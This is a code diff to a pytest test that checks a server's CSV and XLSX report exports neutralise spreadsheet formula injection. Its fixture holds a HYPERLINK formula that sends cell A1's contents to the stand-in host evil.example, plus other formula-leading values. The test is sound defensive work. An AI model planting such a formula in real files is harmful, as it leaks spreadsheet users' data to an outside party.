@@ -13,8 +13,8 @@ import pytest
 from server.app import create_app
 from server.config import load_config
 from server.supervisor.exports import FORMULA_STARTS, neutral
-from tests.conftest import SMALL_HALL
-from tests.supervisor_helpers import login
+from tests.support.hall import SMALL_HALL
+from tests.support.login import login
 
 EVIL_SERVICE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 EVIL_COUNTER = "@SUM(1+1)"
@@ -47,9 +47,11 @@ def test_exports_carry_no_formulas(evil_app: Any) -> None:
     day = hub.day()
     for by in ("service", "counter", "agency"):
         text = client.get(f"/api/reports/export.csv?from={day}&to={day}&by={by}").get_data(True)
-        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
-            for cell in row:
-                assert not cell.startswith(FORMULA_STARTS), (by, cell)
+        cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
+        for cell in cells:
+            assert not cell.startswith(FORMULA_STARTS), (by, cell)
+        named = {"service": EVIL_SERVICE, "counter": EVIL_COUNTER, "agency": "+Imigrasi"}[by]
+        assert any(named in cell for cell in cells), (by, cells)  # the rows were there
         data = client.get(f"/api/reports/export.xlsx?from={day}&to={day}&by={by}").data
         workbook = openpyxl.load_workbook(io.BytesIO(data))
         texts = []
